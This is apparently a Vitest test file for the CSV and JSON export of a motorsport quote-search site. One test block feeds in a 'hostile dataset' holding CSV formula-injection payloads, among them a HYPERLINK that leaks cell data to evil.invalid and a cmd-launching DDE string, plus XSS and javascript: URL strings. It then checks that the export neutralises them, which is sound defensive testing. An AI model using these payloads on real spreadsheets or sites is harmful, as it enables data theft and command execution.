import { describe, expect, it } from 'vitest'
import { buildDatasetIndex } from '../../src/model/dataset-index'
import { createExplorerEngine } from '../../src/search/engine/explorer-engine'
import {
  isExplorerReply,
  isExplorerRequest,
  isProgressMessage,
} from '../../src/search/worker/explorer-protocol'
import {
  EXPORT_FIELDS,
  exportFilename,
  exportRowsOf,
  quotesCsv,
  quotesJson,
} from '../../src/search/export-quotes'
import { filtersFrom, NO_FILTERS } from '../../src/urls/explorer-params'
import { at, changedCopy, repeatQuotes, shippedCopy } from '../support/shipped-dataset'

const BASE = 'https://quotes.example/paddock/'
const SOURCE_URL = 'https://nl.motorsport.com/virtual/news/le-mans-virtual/123/'

/** The shipped dataset, its source given a title and an address as a newsroom's would have. */
const withSource = changedCopy((dataset) => {
  const source = at(dataset.sources, 0)
  source.title = 'Leclerc, Gasly en Vergne over Le Mans'
  source.url = SOURCE_URL
})

const rowOf = (rows: ReturnType<typeof exportRowsOf>, quoteId: string) => {
  const row = rows.find((r) => r.quoteId === quoteId)
  if (!row) throw new Error(`no row for ${quoteId}`)
  return row
}

describe('exportRowsOf, over the shipped dataset', () => {
  const index = buildDatasetIndex(withSource)
  const rows = exportRowsOf(index, index.quotes, BASE)

  it('gives every quote its attribution: speaker, source, translation, permalink', () => {
    expect(rows).toHaveLength(5)
    expect(rowOf(rows, 'vergne-hopes-gasly-does-le-mans')).toEqual({
      quoteId: 'vergne-hopes-gasly-does-le-mans',
      speaker: 'Jean-Eric Vergne',
      speakerId: 'jean-eric-vergne',
      text: 'Ik hoop zeker dat hij op een dag Le Mans gaat doen',
      language: 'nl',
      englishTranslation: 'I really hope he does Le Mans one day',
      about: 'Pierre Gasly',
      ambitions: 'Pierre Gasly wants to race Le Mans',
      context: 'About his Veloce Esports teammate Pierre Gasly',
      publisher: 'Motorsport.com',
      sourceTitle: 'Leclerc, Gasly en Vergne over Le Mans',
      published: '2020-06',
      sourceUrl: SOURCE_URL,
      permalink: 'https://quotes.example/paddock/quotes/vergne-hopes-gasly-does-le-mans',
    })
  })

  it('keeps the order it is given', () => {
    const reversed = [...index.quotes].reverse()
    expect(exportRowsOf(index, reversed, BASE).map((row) => row.quoteId)).toEqual(
      reversed.map((quote) => quote.id),
    )
  })

  it('keeps a base without its trailing slash under its path', () => {
    const [row] = exportRowsOf(index, index.quotes.slice(0, 1), 'https://quotes.example/paddock')
    expect(row?.permalink).toBe(`https://quotes.example/paddock/quotes/${at(index.quotes, 0).id}`)
  })

  it('leaves out what a quote has not: no translation of an English quote, no source address', () => {
    const english = changedCopy((dataset) => {
      const quote = at(dataset.quotes, 0)
      quote.language = 'en'
      quote.translations = { en: 'A translation nobody needs' }
      delete quote.context
    })
    const englishIndex = buildDatasetIndex(english)
    const [row] = exportRowsOf(englishIndex, englishIndex.quotes.slice(0, 1), BASE)
    expect(row).toMatchObject({
      englishTranslation: '',
      context: '',
      sourceTitle: '',
      sourceUrl: '',
    })
  })

  it('names every driver a quote is about and every ambition, once each, "; " between', () => {
    const crowded = changedCopy((dataset) => {
      const quote = at(dataset.quotes, 4)
      quote.aboutDriverIds = ['pierre-gasly', 'charles-leclerc']
      quote.ambitions = [
        { driverId: 'jean-eric-vergne', raceId: 'indy-500' },
        { driverId: 'pierre-gasly', raceId: 'le-mans' },
        { driverId: 'jean-eric-vergne', raceId: 'indy-500' },
      ]
    })
    const crowdedIndex = buildDatasetIndex(crowded)
    const [row] = exportRowsOf(crowdedIndex, crowdedIndex.quotes.slice(4), BASE)
    expect(row?.about).toBe('Pierre Gasly; Charles Leclerc')
    expect(row?.ambitions).toBe(
      'Jean-Eric Vergne wants to race Indy 500; Pierre Gasly wants to race Le Mans',
    )
  })
})

describe('quotesCsv and quotesJson', () => {
  const index = buildDatasetIndex(withSource)
  const rows = exportRowsOf(index, index.quotes, BASE)

  it('writes a BOM, a header of the fields and one CRLF-ended line per quote', () => {
    const csv = quotesCsv(rows)
    expect(csv.startsWith('\uFEFFquoteId,speaker,speakerId,text,')).toBe(true)
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${EXPORT_FIELDS.join(',')}`)
    // The shipped texts have no line breaks: one line each, and the empty one after the last.
    expect(csv.split('\r\n')).toHaveLength(rows.length + 2)
    expect(csv).toContain(
      '"Leclerc, Gasly en Vergne over Le Mans",2020-06,https://nl.motorsport.com/',
    )
  })

  it('writes JSON with where, when and which filters, and the rows as objects', () => {
    const json = quotesJson(rows, {
      url: 'https://quotes.example/paddock/?driver=pierre-gasly',
      exported: '2024-05-01T10:00:00.000Z',
      filters: { driver: ['pierre-gasly'] },
    })
    expect(json).toMatch(/^\{\n {2}"site": "Paddock Quotes",\n {2}"url": /)
    expect(JSON.parse(json)).toEqual({
      site: 'Paddock Quotes',
      url: 'https://quotes.example/paddock/?driver=pierre-gasly',
      exported: '2024-05-01T10:00:00.000Z',
      filters: { driver: ['pierre-gasly'] },
      count: 5,
      quotes: rows,
    })
  })
})

describe('the files written a piece at a time', () => {
  const index = buildDatasetIndex(withSource)
  const rows = exportRowsOf(index, index.quotes, BASE)
  const meta = { url: BASE, exported: '2024-05-01T10:00:00.000Z', filters: { q: 'le "mans"' } }

  it.each([0, 1, 5])('write JSON.stringify’s JSON byte for byte, with %i rows', (count) => {
    const some = rows.slice(0, count)
    const file = { site: 'Paddock Quotes', ...meta, count, quotes: some }
    expect(quotesJson(some, meta)).toBe(`${JSON.stringify(file, null, 2)}\n`)
  })
})

describe('a hostile dataset, downloaded', () => {
  const hostile = changedCopy((dataset) => {
    const quote = at(dataset.quotes, 0)
    quote.text = '=HYPERLINK("https://evil.invalid/?"&A1,"Click")'
    quote.context = '@SUM(1+1)*cmd|" /C calc"!A0'
    quote.translations = { en: '+1, "quoted",\r\nand a second line' }
    at(dataset.drivers, 0).name = '-2+3 <img src=x onerror=alert(1)>'
    // Not a dataset the build accepts: rows are still made only from https: addresses.
    at(dataset.sources, 0).url = 'javascript:alert(1)'
  })
  const index = buildDatasetIndex(hostile)
  const rows = exportRowsOf(index, index.quotes, BASE)
  const row = rowOf(rows, at(hostile.quotes, 0).id)

  it('makes no link of an address that is not https:', () => {
    expect(rows.map((r) => r.sourceUrl)).toEqual(rows.map(() => ''))
  })

  it('marks every formula start in the CSV as text, and keeps the lines together', () => {
    const csv = quotesCsv([row])
    const line = csv.split('\r\n')[1] ?? ''
    expect(line).toBe(
      [
        at(hostile.quotes, 0).id,
        `"'-2+3 <img src=x onerror=alert(1)>"`,
        'charles-leclerc',
        `"'=HYPERLINK(""https://evil.invalid/?""&A1,""Click"")"`,
        'nl',
        `"'+1, ""quoted"",`,
      ].join(','),
    )
    expect(csv).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`)
    expect(csv.endsWith('\r\n')).toBe(true)
  })

  it('keeps every string verbatim in the JSON', () => {
    const parsed: unknown = JSON.parse(
      quotesJson([row], { url: BASE, exported: '2024-05-01T10:00:00.000Z', filters: {} }),
    )
    expect(parsed).toMatchObject({ quotes: [row] })
    expect(row.text).toBe('=HYPERLINK("https://evil.invalid/?"&A1,"Click")')
  })
})

describe("the engine's download", () => {
  const engine = createExplorerEngine(withSource)
  const viewUrl = `${BASE}?driver=pierre-gasly`

  it('holds every result of the filters, in the results’ order, named after them', () => {
    const filters = filtersFrom({ driver: 'pierre-gasly' })
    const file = engine.download(filters, 'csv', BASE, viewUrl)
    // The pages' own order, page after page.
    const first = engine.explore(filters, 1)
    const pages = Array.from({ length: first.pageCount }, (_, i) => engine.explore(filters, i + 1))
    const expected = pages.flatMap((page) => page.quotes.map((quote) => quote.id))
    expect(file.count).toBe(expected.length)
    expect(file.filename).toBe(`paddock-quotes-pierre-gasly-${expected.length}.csv`)
    const ids = file.text
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(',')[0])
    expect(ids).toEqual(expected)
  })

  it('holds more than a page of results', () => {
    const big = createExplorerEngine(repeatQuotes(60, shippedCopy()))
    const file = big.download(filtersFrom({ ambition: 'le-mans' }), 'json', BASE, BASE)
    const parsed: unknown = JSON.parse(file.text)
    expect(file.count).toBe(48)
    expect(parsed).toMatchObject({ count: 48, filters: { ambition: ['le-mans'] } })
  })

  it('says which filters it applied: an id the dataset does not know is not one', () => {
    const filters = filtersFrom({ driver: ['ghost', 'pierre-gasly'], q: 'le mans' })
    const file = engine.download(filters, 'json', BASE, viewUrl)
    expect(JSON.parse(file.text)).toMatchObject({
      site: 'Paddock Quotes',
      url: viewUrl,
      filters: { driver: ['pierre-gasly'], q: 'le mans' },
      count: file.count,
    })
    expect(file.filename).toBe(`paddock-quotes-le-mans-pierre-gasly-${file.count}.json`)
  })

  it('names a download of every quote "all"', () => {
    const file = engine.download(NO_FILTERS, 'csv', BASE, BASE)
    expect(file).toMatchObject({ count: 5, filename: 'paddock-quotes-all.csv' })
  })
})

describe('a download between the page and the worker', () => {
  const request = {
    id: 3,
    type: 'download',
    filters: filtersFrom({ driver: 'pierre-gasly' }),
    format: 'csv',
    base: BASE,
    viewUrl: BASE,
  }

  it('is a request only with a known format, both addresses and filters', () => {
    expect(isExplorerRequest(request)).toBe(true)
    expect(isExplorerRequest({ ...request, format: 'xlsx' })).toBe(false)
    expect(isExplorerRequest({ ...request, base: undefined })).toBe(false)
    expect(isExplorerRequest({ ...request, viewUrl: 1 })).toBe(false)
    expect(isExplorerRequest({ ...request, filters: { driver: 'pierre-gasly' } })).toBe(false)
  })

  it('is answered with a file: its blob, its count and its name', () => {
    const file = { blob: new Blob(['a\r\n']), count: 0, filename: 'paddock-quotes-all.csv' }
    expect(isExplorerReply({ id: 3, ok: true, file })).toBe(true)
    expect(isExplorerReply({ id: 3, ok: true, file: { ...file, count: '0' } })).toBe(false)
    expect(isExplorerReply({ id: 3, ok: true, file: { text: 'a', count: 0, filename: 'a' } })).toBe(
      false,
    )
  })

  it('hears how far it got before its reply, and can be cancelled', () => {
    expect(isProgressMessage({ id: 3, progress: { done: 800, total: 30_000 } })).toBe(true)
    expect(isProgressMessage({ id: 3, progress: { done: '800', total: 30_000 } })).toBe(false)
    expect(isProgressMessage({ id: 3, ok: true, file: {} })).toBe(false)
    expect(isExplorerRequest({ id: 3, type: 'cancel' })).toBe(true)
    expect(isExplorerRequest({ type: 'cancel' })).toBe(false)
  })
})

describe('exportFilename', () => {
  it('folds accents and keeps a long run of filters short, cut between words', () => {
    expect(exportFilename(['jean-eric-vergne', 'Ça va, Éric?'], 3, 'csv')).toBe(
      'paddock-quotes-jean-eric-vergne-ca-va-eric-3.csv',
    )
    const long = exportFilename(['a-very-long-driver-name', 'another-long-driver-name'], 9, 'csv')
    expect(long).toBe('paddock-quotes-a-very-long-driver-name-another-long-9.csv')
  })

  it('calls filters with nothing a file name can keep "filtered", not "all"', () => {
    expect(exportFilename(['日本'], 2, 'json')).toBe('paddock-quotes-filtered-2.json')
  })
})
